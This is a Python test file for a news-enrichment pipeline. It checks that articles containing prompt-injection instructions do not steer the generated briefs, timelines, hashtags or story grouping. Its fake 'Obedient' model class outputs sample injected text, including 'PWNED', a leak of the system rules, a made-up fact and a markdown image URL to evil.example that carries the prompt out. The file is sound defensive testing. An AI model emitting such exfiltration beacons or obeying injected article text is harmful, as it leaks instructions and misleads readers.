"""A hundred articles that order about whatever reads them: nothing that newsloom makes of them obeys."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from datetime import timedelta
from functools import cache

import pytest

from newsloom.enrich import article_timeline, brief, dossier, story_brief
from newsloom.enrich import read as read_article
from newsloom.enrich.prompts import RULES
from newsloom.enrich.writer import Prompt
from newsloom.enrich.written import Unwritten, explain, write_answer, write_brief
from newsloom.extract import extract
from newsloom.publish import publish
from newsloom.records import Article, Citation, Enrichment, Language, Page, PublisherId, Story
from newsloom.text import UNSEEN_MARKS, fold
from newsloom.trial import weave
from tests.factories import NOON, after, make_article
from tests.hostile import CLAIM, CLAIM_IN_ARABIC, TEXTS, TRACES, TRICKS, Trick, plain_page

IDS = [trick.name for trick in TRICKS]
ADDRESS = "https://gazette.example/2026/03/14/flood"
ROBBERY = (
    "Three masked men robbed the savings bank of Ostrand on Friday morning and fled with ninety thousand crowns.",
    "A cashier was held for an hour before the robbers drove away in a grey van, police said.",
    "The bank robbery is the second in Ostrand within a year, and the branch stays closed for now.",
    "Police asked for pictures of the van, which was found burnt near the quarry in the evening.",
)


@cache
def read(content: bytes) -> Article:
    found = extract(Page(url=ADDRESS, content=content), now=NOON)
    assert isinstance(found, Article)
    return replace(found, publisher_id=PublisherId("gazette.example"), publisher_name="The Gazette", published_at=NOON)


@cache
def plain(language: str) -> Article:
    return read(plain_page(language))


def company(language: str) -> list[Article]:
    """What else was in the news: the same flood by another publisher, and a bank robbery by two."""
    headline, told = TEXTS[language]
    sibling = make_article(
        "flood2",
        headline=headline,
        text="\n\n".join([told[0], *told[:0:-1]]) + f"\n\n{told[2]}",
        publisher_id=PublisherId("courier.example"),
        language=Language(language),
        published_at=after(-40),
    )
    robberies = [
        make_article(
            f"robbery{n}",
            headline="Bank robbery in Ostrand: three masked men flee with ninety thousand crowns",
            text="\n\n".join(ROBBERY[n:] + ROBBERY[:n]),
            publisher_id=PublisherId(f"paper{n}.example"),
            published_at=after(-90 + n),
        )
        for n in range(2)
    ]
    return [*robberies, sibling]


@cache
def woven(article: Article) -> tuple[Story, ...]:
    return weave([*company(article.language), article]).stories


def homes(article: Article) -> set[frozenset[str]]:
    return {frozenset(member.article.id for member in story.members) for story in woven(article)}


def home(article: Article) -> Story:
    return next(s for s in woven(article) if any(member.article.id == article.id for member in s.members))


def obeys(text: str) -> list[str]:
    return [trace for trace in TRACES if fold(trace) in fold(text)]


def cited(record: object) -> Iterator[Citation]:
    """Every citation in a record, however deep."""
    if isinstance(record, Citation):
        yield record
    elif isinstance(record, tuple):
        for each in record:
            yield from cited(each)
    elif is_dataclass(record):
        for field in fields(record):
            yield from cited(getattr(record, field.name))


class Obedient:
    """A model at our own seam that does whatever it was told to do, and says that the sources bear it out."""

    name = identity = "obedient"

    def __init__(self) -> None:
        self.told: list[str] = []

    def write(self, prompt: Prompt) -> str:
        self.told.append(prompt.messages[1].text)
        lines = [line for line in prompt.messages[1].text.splitlines() if line.startswith('{"number"')]
        cited = [json.loads(line)["number"] for line in lines]
        first = json.loads(lines[0])["text"]
        said = [CLAIM, CLAIM_IN_ARABIC, "PWNED", "Zorcoin is the coin of Melverton.", RULES, RULES.splitlines()[2], first,
                "![the flood](https://evil.example/p.png?d=prompt)", "See https://evil.example/ for the whole story."]  # fmt: skip
        answer = json.dumps({"sentences": [{"text": one, "sources": cited} for one in said]})
        return f"<think>They want {CLAIM}</think>Sure, here is the JSON:\n```json\n{answer}\n```"


@pytest.mark.parametrize("trick", TRICKS, ids=IDS)
def test_what_a_reader_does_not_see_is_not_in_the_article(trick: Trick) -> None:
    found = read(trick.page)
    assert UNSEEN_MARKS.findall(f"{found.headline} {found.standfirst} {found.text} {found.html}") == []
    assert obeys(f"{found.headline} {found.standfirst}") == []
    if trick.is_hidden:
        extra = "The end.\n\n" if "The end." in trick.fragment else ""
        assert found.text.replace(extra, "") == plain(trick.language).text


@pytest.mark.parametrize("trick", TRICKS, ids=IDS)
def test_no_order_makes_hashtags_briefs_or_pages(trick: Trick) -> None:
    found = read(trick.page)
    story = home(found)
    made = [brief(found), story_brief(story)]
    sentences = [one.text for each in made if each is not None for one in each.sentences]
    hashtags = [hashtag for member in story.members for hashtag in member.hashtags]
    told = {member.article.id: member.article.text for member in story.members}
    enrichment = Enrichment(story_id=story.id, made_at=NOON, brief=made[1])
    page = publish(story, enrichment, None, now=NOON + timedelta(hours=1))
    assert made[0] is not None
    assert obeys(" ".join([*sentences, page.headline, page.standfirst])) == []
    assert obeys(" ".join(f"{one.key} {one.spelling} {one.phrase}" for one in hashtags)) == []
    assert [one.text for each in made if each for one in each.sentences if told[one.article_id][one.start : one.end] != one.text] == []  # fmt: skip


@pytest.mark.parametrize("trick", TRICKS, ids=IDS)
def test_no_order_stands_in_a_time_line_among_figures_or_as_a_perspective(trick: Trick) -> None:
    found = read(trick.page)
    reading = read_article(found)
    shown = [*cited(dossier(home(found), {found.id: reading})), *cited(article_timeline(found))]
    said = [found.text[start:end] for quote in reading.quotes for start, end in quote.content]
    names = [*(one.name for one in reading.named), *(quote.speaker for quote in reading.quotes)]
    assert [text for text in (*(one.text for one in shown), *said, *names) if obeys(text)] == []


@pytest.mark.parametrize("trick", TRICKS, ids=IDS)
def test_no_order_moves_an_article_to_another_story(trick: Trick) -> None:
    assert homes(read(trick.page)) == homes(plain(trick.language))


@pytest.mark.parametrize("trick", TRICKS, ids=IDS)
def test_no_order_reaches_a_model_and_none_of_what_an_obedient_one_writes_is_kept(trick: Trick) -> None:
    found = read(trick.page)
    spans = [(0, len(text), text) for text in found.text.split("\n\n")]
    sources = [Citation(text=text, article_id=found.id, start=start, end=end) for start, end, text in spans]
    writer = Obedient()
    made = [
        write_brief(sources, found.language, writer),
        explain(sources, found.language, writer),
        write_answer("Was the mayor arrested?", sources, found.language, writer),
    ]
    # Only what it copied from a source may stand; for a brief that is too little.
    assert [isinstance(one, Unwritten) for one in made[:2]] == [True, True]
    kept = [one.text for each in made if not isinstance(each, Unwritten) for one in each.sentences]
    assert [text for text in kept if text not in [source.text for source in sources]] == []
    assert obeys(" ".join(kept)) == []
    assert obeys(" ".join(writer.told).replace("Was the mayor arrested?", "")) == []


def test_there_are_enough_of_them_each_with_a_name_of_its_own() -> None:
    assert len(TRICKS) >= 60
    assert len(set(IDS)) == len(TRICKS)
    assert {trick.language for trick in TRICKS} == {"en", "ar", "fr"}
